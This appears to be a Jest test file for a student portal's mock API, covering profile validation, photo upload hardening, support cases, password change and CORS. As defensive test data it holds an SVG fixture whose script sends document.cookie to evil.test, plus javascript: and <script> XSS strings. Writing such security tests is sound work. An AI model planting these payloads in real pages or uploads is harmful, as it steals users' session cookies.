/** Black-box tests of the signed-in student's writes: profile update (validated), photo upload,
 * support and email cases, tasks and the directory password; and CORS for writes. */
import { apiGet, apiSend, corsPreflight, setUpSignedIn, startDevApi } from './testing/devApiProcess';
import { dirname, join } from 'node:path';
import { DiskStore } from './diskStore';
import { readData } from './testing/dataFolder';
import { SAMPLE_FILES, type StudentProfile } from '@portal/mock-api';

jest.setTimeout(30000);

const ICHM = 'http://ichm.localhost:3000';
const documentsDir = join(dirname(require.resolve('@portal/mock-api/package.json')), 'src/seed/documents');

/** Keeps `bytes` as the student's photo, recorded as image/svg+xml, as an older server did (stopped meanwhile). */
async function keepImage(bytes: Buffer): Promise<void> {
  const { store } = DiskStore.open(server.dataDir, { documentsDir });
  const blob = `image-${student.studentUPId}`;
  await store.writeBlob(blob, bytes);
  store.put('images', student.studentUPId, { contentType: 'image/svg+xml', size: bytes.length, blob });
}
const server = setUpSignedIn();
const send = server.send;
let student: StudentProfile;

beforeAll(async () => {
  [, student] = await send<StudentProfile>('GET', 'v1/secure/student');
});
/** A restart keeps the address: the issuer (and so the user pool's signed access tokens) is the same. */
const samePort = () => ['--port', String(server.api.port)];
/** The data as the server keeps it on disk. */
const stored = () => readData(server.dataDir);

describe('PATCH v1/secure/student', () => {
  test('updates the profile; ids bring their labels', async () => {
    const [status, updated] = await send<StudentProfile>('PATCH', 'v1/secure/student', {
      firstName: 'Mei',
      lastName: 'Chen',
      mobilePhone: '+61 412 345 678',
      preferredName: 'May',
      countryId: 554,
      stateId: 29,
    });
    expect(status).toBe(200);
    expect(updated).toMatchObject({
      preferredName: 'May',
      country: 'New Zealand',
      state: 'Wellington',
      studentId: student.studentId,
    });
    expect((await send<StudentProfile>('GET', 'v1/secure/student'))[1].preferredName).toBe('May');
  });

  test('bad input is 400 with details and nothing stored', async () => {
    const before = stored().students.find((s) => s.studentUPId === student.studentUPId);
    const [status, body] = await send<{ message: string; details: unknown[] }>('PATCH', 'v1/secure/student', {
      firstName: 'Mei',
      lastName: '',
      nickname: 'x',
    });
    expect([status, body.message, body.details.length > 1]).toEqual([
      400,
      'Application data validation error',
      true,
    ]);
    expect(stored().students.find((s) => s.studentUPId === student.studentUPId)).toEqual(before);
  });

  test('social profile links are http(s) addresses only: javascript: and data: are 400', async () => {
    const before = stored().students.find((s) => s.studentUPId === student.studentUPId);
    const profile = { firstName: 'Mei', lastName: 'Chen', mobilePhone: '+61 412 345 678' };
    for (const [field, url] of [
      ['linkedinURL', 'javascript:alert(1)'],
      ['facebookURL', 'data:text/html,<script>alert(1)</script>'],
      ['twitterURL', 'twitter.com/mei'],
    ]) {
      const [status, body] = await send<{ message: string; details: { instancePath: string }[] }>(
        'PATCH',
        'v1/secure/student',
        { ...profile, [field!]: url },
      );
      expect([status, body.message]).toEqual([400, 'Application data validation error']);
      expect(body.details).toEqual(
        expect.arrayContaining([expect.objectContaining({ instancePath: `/${field}` })]),
      );
    }
    expect(stored().students.find((s) => s.studentUPId === student.studentUPId)).toEqual(before);

    const [status, updated] = await send<StudentProfile>('PATCH', 'v1/secure/student', {
      ...profile,
      linkedinURL: 'https://www.linkedin.com/in/mei-chen',
      facebookURL: '',
      twitterURL: null,
    });
    expect([status, updated.linkedinURL]).toEqual([200, 'https://www.linkedin.com/in/mei-chen']);
  });

  test("another student's profile is 403", async () => {
    const [status] = await send('PATCH', 'v1/secure/student', {
      studentUPId: 'someone-else',
      firstName: 'A',
      lastName: 'B',
      homePhone: '09 555 0100',
    });
    expect(status).toBe(403);
  });
});

test('PUT v1/secure/student/image stores the octet-stream body, served by the GET', async () => {
  const jpeg = Buffer.from(SAMPLE_FILES.jpeg);
  const [status, saved] = await send(
    'PUT',
    `v1/secure/student/image?studentupid=${student.studentUPId}`,
    new Uint8Array(jpeg),
    {
      'Content-Type': 'application/octet-stream',
    },
  );
  expect([status, saved.contentType, saved.size]).toEqual([200, 'image/jpeg', jpeg.length]);
  const image = await apiGet(server.api.baseUrl, 'v1/secure/student/image', server.token);
  expect(image.headers.get('content-type')).toBe('image/jpeg');
  expect(Buffer.from(await image.arrayBuffer())).toEqual(jpeg);
  expect((await send('PUT', 'v1/secure/student/image', new Uint8Array()))[0]).toBe(400);
  // The photo's bytes are a file in blobs/, not inside the data.
  expect(JSON.stringify(stored().images[student.studentUPId])).not.toContain(jpeg.toString('base64'));
});

test('a photo over the upload limit (32Mb) is refused with 413 and the old one kept', async () => {
  const [status, body] = await send('PUT', 'v1/secure/student/image', new Uint8Array(32 * 1024 * 1024 + 1), {
    'Content-Type': 'application/octet-stream',
  });
  expect([status, body]).toEqual([413, { message: 'The image is larger than 32Mb' }]);
  const image = await apiGet(server.api.baseUrl, 'v1/secure/student/image', server.token);
  expect(image.headers.get('content-type')).toBe('image/jpeg');
});

describe('the photo is a JPEG, served as an inert image', () => {
  const JPEG = Buffer.from(SAMPLE_FILES.jpeg);
  const SVG = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?" + document.cookie)</script></svg>',
  );
  const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
  const put = (bytes: Buffer, contentType: string) =>
    send<{ message: string }>('PUT', 'v1/secure/student/image', new Uint8Array(bytes), {
      'Content-Type': contentType,
    });
  const image = () => apiGet(server.api.baseUrl, 'v1/secure/student/image', server.token);

  test('anything but a JPEG (by its bytes, whatever the header says) is 415, and the photo kept', async () => {
    expect((await put(JPEG, 'application/octet-stream'))[0]).toBe(200);
    for (const [bytes, declared] of [
      [SVG, 'image/svg+xml'],
      [SVG, 'image/jpeg'],
      [SVG, 'application/octet-stream'],
      [PNG, 'image/png'],
      [Buffer.from('GIF89a not a photo'), 'image/gif'],
      [Buffer.from('<html><script>alert(1)</script></html>'), 'image/jpeg'],
      [Buffer.from([0xff, 0xd8]), 'image/jpeg'],
    ] as const) {
      const [status, body] = await put(bytes, declared);
      expect([declared, status, body]).toEqual([declared, 415, { message: 'The image must be a JPEG' }]);
    }
    const kept = await image();
    expect(kept.headers.get('content-type')).toBe('image/jpeg');
    expect(Buffer.from(await kept.arrayBuffer())).toEqual(JPEG);
  });

  test('the photo is served with nosniff, a sandbox policy and as an attachment', async () => {
    expect((await put(JPEG, 'application/octet-stream'))[0]).toBe(200);
    const res = await image();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/jpeg');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="photo\.jpg"/);
  });

  test('an image stored earlier that is not a photo type is never served as active content', async () => {
    // As an older server kept it: an SVG with a script, recorded as image/svg+xml.
    const port = samePort();
    await server.api.stop();
    await keepImage(SVG);
    server.api = await startDevApi(server.dataDir, port);
    const res = await image();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);

    // A PNG kept earlier is served as the PNG it is (its bytes say so, not its record).
    await server.api.stop();
    await keepImage(PNG);
    server.api = await startDevApi(server.dataDir, port);
    const png = await image();
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toMatch(/^attachment; filename="photo\.png"/);
  });
});

describe('cases', () => {
  const CASE = () => ({
    caseTitle: `Mei Chen ${new Date().toISOString().slice(0, 10)}`,
    caseType: 'Support',
    caseSubType: 'Assessment',
    provider: 'ichm',
    studentUpId: student.studentUPId,
    description: 'I cannot open my assessment brief.',
  });

  test('a support case and an email support case are created', async () => {
    const [status, created] = await send('POST', 'v1/secure/case', CASE());
    expect(status).toBe(201);
    expect(created).toMatchObject({
      ...CASE(),
      caseId: created.id,
      status: 'Active',
      caseNumber: expect.stringMatching(/^CAS-/),
    });
    const [emailed, email] = await send('POST', 'v1/secure/emailsupportcase', CASE());
    expect([emailed, email.status]).toEqual([201, 'Sent']);
  });

  test('a bad case is 400 with details and not stored; a case for someone else is 403', async () => {
    const before = stored().records.cases.length;
    const [status, body] = await send<{ details: unknown[] }>('POST', 'v1/secure/case', {
      ...CASE(),
      caseType: 'Other',
    });
    expect([status, body.details.length]).toEqual([400, 1]);
    expect(stored().records.cases).toHaveLength(before);
    expect((await send('POST', 'v1/secure/case', { ...CASE(), studentUpId: '999' }))[0]).toBe(403);
  });
});

test('a task and the directory password are accepted; the password is not kept', async () => {
  const [status, task] = await send('POST', 'v1/secure/task', { subject: 'Call back about fees' });
  expect([status, task.status, task.owner]).toEqual([201, 'Open', 'mei.chen@ichm.demo']);
  const [changed, result] = await send('PUT', 'v1/secure/adaccountpassword', {
    username: 'mei.chen',
    password: 'New-password-1',
  });
  expect([changed, result.passwordChanged]).toEqual([200, true]);
  expect(JSON.stringify(stored())).not.toContain('New-password-1');
  expect(
    (await send('PUT', 'v1/secure/adaccountpassword', { username: 'mei.chen', password: 'short' }))[0],
  ).toBe(400);
});

test('CORS: a write preflight from a shell origin allows the portal headers', async () => {
  const preflight = await corsPreflight(server.api.baseUrl, 'v1/secure/zip/charge', {
    origin: ICHM,
    method: 'POST',
    requestHeaders: 'content-type,authorization,opportunityid',
  });
  expect(preflight.status).toBe(204);
  expect(preflight.headers.get('access-control-allow-origin')).toBe(ICHM);
  const allowed = (preflight.headers.get('access-control-allow-headers') ?? '').toLowerCase();
  for (const header of ['content-type', 'authorization', 'opportunityid']) expect(allowed).toContain(header);
  for (const method of ['POST', 'PUT', 'PATCH'])
    expect(preflight.headers.get('access-control-allow-methods')).toContain(method);

  const write = await apiSend(server.api.baseUrl, 'POST', 'v1/lead', {
    body: { firstName: 'A', lastName: 'B', email: 'a@example.com', provider: 'ichm' },
    headers: { Origin: ICHM },
  });
  expect(write.status).toBe(201);
  expect(write.headers.get('access-control-allow-origin')).toBe(ICHM);
});
